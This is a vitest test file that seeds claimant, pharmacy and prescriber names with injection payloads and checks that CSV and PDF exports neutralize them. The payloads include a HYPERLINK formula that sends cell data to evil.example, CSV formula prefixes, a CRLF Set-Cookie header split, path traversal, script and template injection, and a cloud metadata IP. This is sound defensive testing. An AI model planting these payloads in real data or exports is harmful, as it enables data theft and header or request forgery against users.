import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { everyCall } from '#registry'
import { attempt, send, sender } from './attempt.ts'
import { tried } from './drawn.ts'
import { openPrepared } from './prepared.ts'
import type { Prepared } from './place.ts'
import { sampleOf } from './samples.ts'

/** Names of people, pharmacies and prescribers that somebody chose to do harm (OWASP ASVS 1.2.10, 1.3.3, 5.4.1; RFC 4180). */
const names = [
  '=HYPERLINK("http://evil.example?"&A1)',
  '+1+1',
  '@SUM(1)',
  '\t=1',
  '＝1＋1',
  '"a,b\r\nc"',
  'Łukasz "Bo" ../../x\r\nSet-Cookie: a=b;.exe 🙂\u202egpj',
  `<script>alert(1)</script>{{7*7}}<img src=http://169.254.169.254>${'W'.repeat(150)}`,
]

let prepared: Prepared
beforeAll(async () => void (prepared = await openPrepared()))
afterAll(() => prepared.close())

/** Records by RFC 4180: every field quoted, CRLF between records; undefined when it is anything else. */
function recordsOf(text: string): string[][] | undefined {
  const records: string[][] = []
  let record: string[] = []
  const field = /"((?:[^"]|"")*)"(,|\r\n|$)/y
  field.lastIndex = text.startsWith('\ufeff') ? 1 : 0
  while (field.lastIndex < text.length) {
    const found = field.exec(text)
    if (!found) return undefined
    record.push(found[1]!.replaceAll('""', '"'))
    if (found[2] === ',') continue
    records.push(record)
    record = []
  }
  return records
}

describe('a file of names chosen to do harm has the names as plain text', () => {
  const files = everyCall.filter((call) => call.file !== undefined && call.kind === 'read' && call.gate !== 'service')
  test.each(files)('$name', async (call) => {
    const place = prepared.fresh('AAA1')
    const by = sender(await prepared.api.signIn(place.username), place.mc)
    const input = await sampleOf(call, place)
    for (const name of tried(call, names, 2, 'name')) {
      await prepared.api.db.query('update claimant set first_name = $1, last_name = $1 where mc = $2', [name, place.mc])
      await prepared.api.db.query('update pharmacy set name = $1', [name])
      await prepared.api.db.query('update practitioner set first_name = $1, last_name = $1', [name])
      for (const type of call.file?.startsWith('text/csv') && 'type' in input ? ['csv', 'pdf'] : [undefined]) {
        const answer = await send(prepared.api, attempt(call, { ...input, ...(type && { type }) }, by))
        expect(answer.status, answer.text.slice(0, 300)).toBe(200)
        expect(answer.headers['set-cookie']).toBeUndefined()
        const given = String(answer.headers['content-disposition'])
        expect(given).toMatch(
          /^(?:attachment|inline)(?:; filename="[\x20-\x7e]+"(?:; filename\*=UTF-8''[\w.%~!'()*-]+)?)?$/,
        )
        const decoded = decodeURIComponent(given.split("filename*=UTF-8''")[1] ?? 'none.pdf')
        expect(decoded).toMatch(/^[^\\/:*?"<>|;\p{Cc}\p{Cf}]+\.(?:csv|pdf|json|txt)$/u)
        expect(Buffer.byteLength(decoded)).toBeLessThanOrEqual(150)
        if (answer.text.startsWith('%PDF')) {
          // Streams are compressed: any letters may turn up in them.
          expect(answer.text.replaceAll(/\bstream\r?\n[^]*?\bendstream\b/g, '')).not.toMatch(
            /\/(?:JavaScript|JS|Launch|URI|OpenAction)\b/,
          )
        } else if (String(answer.headers['content-type']).startsWith('text/csv')) {
          const records = recordsOf(answer.text)
          expect(records, 'fields are quoted, records end with CRLF').toBeDefined()
          expect(new Set(records!.map((record) => record.length)).size).toBe(1)
          const formulas = records!.flat().filter((cell) => /^[=+@\t\r\n\0＝＋－＠]|^-(?![\d.]+$)/.test(cell))
          expect(formulas).toEqual([])
        }
      }
    }
  })
})
